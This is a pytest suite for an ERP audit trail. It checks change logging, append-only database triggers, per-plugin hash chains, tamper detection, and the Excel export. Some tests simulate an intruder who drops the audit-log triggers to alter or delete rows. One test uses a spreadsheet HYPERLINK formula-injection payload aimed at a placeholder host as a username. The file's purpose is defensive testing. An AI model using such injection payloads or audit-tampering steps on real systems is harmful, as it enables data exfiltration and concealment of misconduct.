"""The audit trail records every write, is append-only, and detects tampering."""
import json

import pytest
import sqlalchemy as sa
from conftest import TEST_DB, login, post_form

from erp.audit import services as audit
from erp.audit.models import AuditEntry
from erp.auth import services
from erp.extensions import db


def entries(app, **where):
    with app.app_context():
        query = sa.select(AuditEntry).order_by(AuditEntry.seq)
        for key, value in where.items():
            query = query.where(getattr(AuditEntry, key) == value)
        return [(e.action, e.entity, e.actor, json.loads(e.before or "null"), json.loads(e.after or "null"))
                for e in db.session.execute(query).scalars()]


def test_a_change_through_the_web_records_who_what_before_and_after(app, client, make_user):
    make_user("admin", roles=["sysadmin"])
    with app.app_context():
        dept_id = services.save_department(None, code="WS", name="상수도사업소").id
    login(client, "admin")
    post_form(client, f"/admin/departments/{dept_id}", {"code": "WS", "name": "상수도사업본부", "parent_id": "", "active": "y"})
    updates = entries(app, action="update", entity="core_department")
    assert updates == [("update", "core_department", "admin", {"name": "상수도사업소"}, {"name": "상수도사업본부"})]


def test_creating_a_user_is_recorded_without_the_password_hash(app, make_user):
    make_user("kim", roles=["auditor"])
    created = [e for e in entries(app, action="create", entity="core_user")]
    assert len(created) == 1
    after = created[0][4]
    assert after["username"] == "kim" and after["password_hash"] == "***"
    assert after["name"] == "kim"


def test_logins_and_failures_are_recorded(app, client, make_user):
    make_user("kim", roles=["auditor"])
    login(client, "kim", "Wrong-password-9")
    login(client, "kim")
    actions = [e[0] for e in entries(app, entity="core_user") if e[0].startswith("login")]
    assert actions == ["login_failed", "login"]


def test_the_chain_verifies_when_untouched(app, runner, make_user):
    make_user("kim", roles=["auditor"])
    result = runner.invoke(args=["erp", "audit-verify"])
    assert result.exit_code == 0
    lines = result.output.splitlines()
    assert [line.split(":")[0] for line in lines] == ["core", "accounting", "budget", "complaints", "rates"]
    assert all("audit trail intact" in line for line in lines)


def _drop_guard(conn):
    """What an intruder with database rights does first: remove the append-only triggers."""
    for name in ("core_audit_log_no_update", "core_audit_log_no_delete"):
        conn.execute(sa.text(f"DROP TRIGGER IF EXISTS {name}"))


def _restore_guard(app, prefix="core"):
    from erp.audit.schema import create_append_only_triggers

    with app.app_context(), db.engine.begin() as conn:
        create_append_only_triggers(conn, prefix)


def _populate(app):
    with app.app_context():
        for i in range(5):
            services.save_department(None, code=f"D{i}", name=f"부서{i}")
        return db.session.execute(sa.select(sa.func.max(AuditEntry.seq))).scalar_one()


def test_an_altered_row_is_detected_at_that_row(app, runner):
    last = _populate(app)
    target = last - 2
    with app.app_context(), db.engine.begin() as conn:
        _drop_guard(conn)
        conn.execute(sa.text("UPDATE core_audit_log SET summary = 'nothing happened' WHERE seq = :s"), {"s": target})
    try:
        result = runner.invoke(args=["erp", "audit-verify"])
        assert result.exit_code == 1
        assert f"core: AUDIT TRAIL BROKEN at record {target}" in result.output and "altered" in result.output
        assert "rates: audit trail intact" in result.output
    finally:
        _restore_guard(app)


def test_a_deleted_row_is_detected(app, runner):
    last = _populate(app)
    target = last - 1
    with app.app_context(), db.engine.begin() as conn:
        _drop_guard(conn)
        conn.execute(sa.text("DELETE FROM core_audit_log WHERE seq = :s"), {"s": target})
    try:
        result = runner.invoke(args=["erp", "audit-verify"])
        assert result.exit_code == 1
        assert f"BROKEN at record {target}" in result.output and "missing" in result.output
    finally:
        _restore_guard(app)


def test_removing_the_newest_rows_is_detected(app, runner):
    last = _populate(app)
    with app.app_context(), db.engine.begin() as conn:
        _drop_guard(conn)
        conn.execute(sa.text("DELETE FROM core_audit_log WHERE seq = :s"), {"s": last})
    try:
        result = runner.invoke(args=["erp", "audit-verify"])
        assert result.exit_code == 1 and f"BROKEN at record {last}" in result.output
    finally:
        _restore_guard(app)


def test_the_database_refuses_to_change_or_delete_audit_rows(app):
    _populate(app)
    with app.app_context():
        with pytest.raises(sa.exc.DatabaseError), db.engine.begin() as conn:
            conn.execute(sa.text("UPDATE core_audit_log SET summary = 'x' WHERE seq = 1"))
        with pytest.raises(sa.exc.DatabaseError), db.engine.begin() as conn:
            conn.execute(sa.text("DELETE FROM core_audit_log WHERE seq = 1"))


def test_the_orm_refuses_to_change_audit_rows(app):
    _populate(app)
    with app.app_context():
        entry = db.session.get(AuditEntry, 1)
        entry.summary = "edited"
        with pytest.raises(PermissionError):
            db.session.commit()
        db.session.rollback()


def test_explicit_records_chain_with_automatic_ones(app):
    with app.app_context():
        with audit.acting_as(None, "batch"):
            audit.record("export", "report", "TB-2026", "trial balance exported")
            services.save_department(None, code="E1", name="수출부서")
        assert audit.verify().ok
    rows = entries(app)
    assert ("export", "report", "batch", None, None) in rows


def test_the_audit_page_searches_by_object(app, client, make_user):
    make_user("admin", roles=["sysadmin"])
    _populate(app)
    login(client, "admin")
    html = client.get("/admin/audit/?entity=core_department").get_data(as_text=True)
    assert "부서3" in html and "core_department" in html
    # Records of every service's chain, each with its chain, and a filter by chain.
    every = client.get("/admin/audit/?entity=complaints_type").get_data(as_text=True)
    assert '<span class="tag">complaints</span>' in every and "/admin/audit/complaints/1" in every
    only_core = client.get("/admin/audit/?entity=complaints_type&chain=core").get_data(as_text=True)
    assert "/admin/audit/complaints/" not in only_core and "/admin/audit/core/" in client.get("/admin/audit/?chain=core").get_data(as_text=True)
    assert client.get("/admin/audit/complaints/1").status_code == 200
    unknown = client.get("/admin/audit/?chain=nowhere")
    assert unknown.status_code == 200 and "nowhere 감사 체인은 없습니다." in unknown.get_data(as_text=True)
    assert client.get("/admin/audit/nochain/1").status_code == 404
    bad = client.get("/admin/audit/?from=2026-13-45").get_data(as_text=True)
    assert "YYYY-MM-DD" in bad
    export = client.get("/admin/audit/export.xlsx?entity=core_department")
    assert export.status_code == 200 and export.data[:2] == b"PK"


def test_a_change_rolled_back_after_it_was_written_leaves_no_record(app):
    from erp.auth.models import Department

    with app.app_context():
        db.session.add(Department(code="GHOST", name="유령부서"))
        db.session.flush()  # written to the database, and captured for the audit trail
        db.session.rollback()
        services.save_department(None, code="REAL", name="실제부서")
    summaries = [e[4]["code"] for e in entries(app, entity="core_department")]
    assert summaries == ["REAL"]


def test_a_rolled_back_savepoint_takes_its_records_with_it(app):
    from erp.auth.models import Department

    with app.app_context():
        db.session.add(Department(code="REAL", name="실제부서"))
        nested = db.session.begin_nested()
        db.session.add(Department(code="GHOST", name="유령부서"))
        db.session.flush()
        nested.rollback()
        db.session.commit()
        assert audit.verify().ok
    assert [e[4]["code"] for e in entries(app, entity="core_department")] == ["REAL"]


def test_typed_text_is_never_a_formula_in_the_excel_export(app, client, make_user):
    from io import BytesIO

    from openpyxl import load_workbook

    make_user("admin", roles=["sysadmin"])
    login(app.test_client(), '=HYPERLINK("http://x.example/?"&B8,"open")', "Wrong-password-1")
    login(client, "admin")
    data = client.get("/admin/audit/export.xlsx?action=login_failed").data
    ws = load_workbook(BytesIO(data)).worksheets[0]
    cells = [c for row in ws.iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert cells and all(c.data_type == "s" for c in cells)
    assert entries(app, action="export")  # the export itself is on the record


# --- one chain per service ----------------------------------------------------------------------

def _chain_rows(app, chain):
    with app.app_context():
        entry = audit.chain(chain).entry
        return [(e.action, e.entity, e.summary) for e in db.session.execute(sa.select(entry).order_by(entry.seq)).scalars()]


def _write_to_two_plugins(app):
    """One transaction writing a core table and the tables of two plugins."""
    from plugins.budget.models import Project
    from plugins.complaints.models import ComplaintType

    from erp.auth.models import Department

    with app.app_context(), audit.acting_as(None, "tester"):
        db.session.add(Department(code="MIX", name="혼합부서"))
        db.session.add(ComplaintType(code="T-MIX", name="혼합민원", category="question", department_code="MIX"))
        db.session.add(Project(year=2026, level="policy", code="P-MIX", name="혼합사업"))
        db.session.commit()


def test_writes_to_two_plugins_go_to_two_chains_and_each_verifies(app, runner):
    before = {name: len(_chain_rows(app, name)) for name in ("core", "budget", "complaints", "rates")}
    _write_to_two_plugins(app)
    complaints = _chain_rows(app, "complaints")[before["complaints"]:]
    budget = _chain_rows(app, "budget")[before["budget"]:]
    core = _chain_rows(app, "core")[before["core"]:]
    assert complaints == [("create", "complaints_type", "T-MIX 혼합민원")]
    assert budget == [("create", "budget_project", "2026 P-MIX 혼합사업")]
    assert [row[1] for row in core] == ["core_department"]
    assert len(_chain_rows(app, "rates")) == before["rates"]
    with app.app_context():
        assert all(result.ok for result in audit.verify_all())
    assert runner.invoke(args=["erp", "audit-verify"]).exit_code == 0


def test_explicit_records_go_to_the_calling_plugins_chain_or_the_named_one(app):
    with app.app_context():
        audit.record("export", "report", "X", "from the core")
        audit.record("export", "report", "Y", "named", chain="rates")
        with pytest.raises(ValueError):
            audit.record("export", "report", "Z", "no such chain", chain="nowhere")
        db.session.commit()
    assert ("export", "report", "from the core") in _chain_rows(app, "core")
    assert _chain_rows(app, "rates")[-1] == ("export", "report", "named")


def test_a_plugin_service_records_in_its_own_chain(app):
    """audit.record called by a plugin's code (the accounting service posting an entry) goes to
    the accounting chain without naming it."""
    from plugins.accounting import api as accounting

    before = len(_chain_rows(app, "accounting"))
    with app.app_context(), audit.acting_as(None, "tester"):
        _post_small_entry(accounting)
    new = _chain_rows(app, "accounting")[before:]
    assert any(row[0] == "post" and row[1] == "accounting_entry" for row in new), new
    assert not [row for row in _chain_rows(app, "core") if row[1] == "accounting_entry"]


def _post_small_entry(accounting):
    from datetime import date

    from plugins.accounting.data import PostingLine, PostingRequest

    accounting.post_entry(PostingRequest(date(2026, 3, 2), "감사 체인 시험",
                                         (PostingLine("1113", 1000), PostingLine("611-01", credit=1000)),
                                         idempotency_key="test:audit-chain"))


def test_tampering_in_one_plugins_chain_is_named_by_audit_verify(app, runner):
    _write_to_two_plugins(app)
    _write_to_two_plugins_again(app)
    with app.app_context():
        last = db.session.execute(sa.text("SELECT MAX(seq) FROM complaints_audit_log")).scalar_one()
    with app.app_context(), db.engine.begin() as conn:
        for name in ("complaints_audit_log_no_update", "complaints_audit_log_no_delete"):
            conn.execute(sa.text(f"DROP TRIGGER IF EXISTS {name}"))
        conn.execute(sa.text("UPDATE complaints_audit_log SET summary = 'nothing happened' WHERE seq = :s"), {"s": last - 1})
    try:
        result = runner.invoke(args=["erp", "audit-verify"])
        assert result.exit_code == 1
        assert f"complaints: AUDIT TRAIL BROKEN at record {last - 1}" in result.output
        assert "core: audit trail intact" in result.output and "budget: audit trail intact" in result.output
    finally:
        _restore_guard(app, "complaints")


def _write_to_two_plugins_again(app):
    from plugins.complaints.models import ComplaintType

    with app.app_context():
        db.session.add(ComplaintType(code="T-MIX2", name="혼합민원2", category="question", department_code="MIX"))
        db.session.commit()


def test_each_plugin_chain_is_append_only_in_the_database(app):
    _write_to_two_plugins(app)
    with app.app_context():
        for statement in ("UPDATE complaints_audit_log SET summary = 'x' WHERE seq = 1",
                          "DELETE FROM budget_audit_log WHERE seq = 1"):
            with pytest.raises(sa.exc.DatabaseError), db.engine.begin() as conn:
                conn.execute(sa.text(statement))


def test_a_rolled_back_savepoint_takes_its_plugin_records_with_it(app):
    from plugins.complaints.models import ComplaintType

    before = len(_chain_rows(app, "complaints"))
    with app.app_context():
        db.session.add(ComplaintType(code="T-REAL", name="실제", category="question", department_code="WS"))
        nested = db.session.begin_nested()
        db.session.add(ComplaintType(code="T-GHOST", name="유령", category="question", department_code="WS"))
        db.session.flush()
        nested.rollback()
        db.session.commit()
        assert audit.verify("complaints").ok
    assert [row[2] for row in _chain_rows(app, "complaints")[before:]] == ["T-REAL 실제"]


def test_split_mode_keeps_a_plugins_audit_rows_in_the_plugins_database(tmp_path, monkeypatch):
    from erp import create_app, migrating

    core_path, complaints_path, budget_path = tmp_path / "core.sqlite", tmp_path / "complaints.sqlite", tmp_path / "budget.sqlite"
    monkeypatch.setenv("DATABASE_URL_COMPLAINTS", f"sqlite:///{complaints_path}")
    monkeypatch.setenv("DATABASE_URL_BUDGET", f"sqlite:///{budget_path}")
    monkeypatch.setenv("DATABASE_URL_ACCOUNTING", f"sqlite:///{tmp_path / 'accounting.sqlite'}")
    split = create_app({"SQLALCHEMY_DATABASE_URI": f"sqlite:///{core_path}", "TESTING": True,
                        "ERP_PLUGINS": ["accounting", "budget", "complaints"], "ERP_STORAGE_DIR": str(tmp_path / "s")})
    try:
        with split.app_context():
            migrating.upgrade()
        _write_to_two_plugins(split)
        with split.app_context():
            assert [r.ok for r in audit.verify_all()] == [True, True, True, True]
    finally:
        with split.app_context():
            db.session.remove()
            for engine in split.extensions.get("erp_engines_by_url", {}).values():
                engine.dispose()

    def rows(path, table):
        engine = sa.create_engine(f"sqlite:///{path}")
        try:
            with engine.connect() as conn:
                return [tuple(r) for r in conn.execute(sa.text(f"SELECT entity, summary FROM {table} ORDER BY seq"))]
        finally:
            engine.dispose()

    assert rows(complaints_path, "complaints_audit_log") == [("complaints_type", "T-MIX 혼합민원")]
    assert rows(budget_path, "budget_audit_log") == [("budget_project", "2026 P-MIX 혼합사업")]
    assert [r[0] for r in rows(core_path, "core_audit_log")] == ["core_department"]


@pytest.mark.skipif(TEST_DB != "mariadb", reason="SQLite lets one writer at a time into the whole database")
def test_a_transaction_waits_only_for_the_head_of_the_chain_it_writes(app):
    from plugins.budget.models import Project
    from plugins.complaints.models import ComplaintType

    with app.app_context():
        holder = db.engine.connect()  # another service's transaction, appending to the complaints chain
        held = holder.begin()
        holder.execute(sa.text("SELECT seq FROM complaints_audit_head WHERE id = 1 FOR UPDATE"))
        try:
            db.session.execute(sa.text("SET SESSION innodb_lock_wait_timeout = 1"))
            db.session.add(Project(year=2026, level="policy", code="P-FREE", name="기다리지 않는 사업"))
            db.session.commit()  # the budget chain's head is free
            db.session.add(ComplaintType(code="T-WAIT", name="기다리는 민원", category="question", department_code="WS"))
            with pytest.raises(sa.exc.OperationalError, match="Lock wait timeout"):
                db.session.commit()
            db.session.rollback()
        finally:
            held.rollback()
            holder.close()
            db.session.execute(sa.text("SET SESSION innodb_lock_wait_timeout = DEFAULT"))
            db.session.commit()
    assert _chain_rows(app, "budget")[-1][2] == "2026 P-FREE 기다리지 않는 사업"


@pytest.mark.skipif(TEST_DB != "mariadb", reason="SQLite lets one writer at a time into the whole database")
def test_transactions_writing_the_same_chains_in_opposite_orders_do_not_deadlock(app):
    """One thread writes complaints then budget, the other budget then complaints; the heads are
    locked in the chains' order, not the order of the writes."""
    import threading

    from plugins.budget.models import Project
    from plugins.complaints.models import ComplaintType

    rounds, errors = 12, []
    barrier = threading.Barrier(2, timeout=60)

    def worker(index):
        with app.app_context():
            try:
                for n in range(rounds):
                    complaint = ComplaintType(code=f"T{index}-{n}", name="교차", category="question", department_code="WS")
                    project = Project(year=2026, level="policy", code=f"P{index}-{n}", name="교차")
                    for obj in ((complaint, project) if index == 0 else (project, complaint)):
                        db.session.add(obj)
                        db.session.flush()
                    barrier.wait()
                    db.session.commit()
            except Exception as error:  # reported below
                errors.append(repr(error))
                barrier.abort()
                db.session.rollback()

    threads = [threading.Thread(target=worker, args=(i,)) for i in range(2)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(timeout=120)
    assert errors == []
    with app.app_context():
        assert [r.ok for r in audit.verify_all()] == [True] * 5
        db.session.remove()
    assert len([r for r in _chain_rows(app, "complaints") if r[2].endswith("교차")]) == 2 * rounds
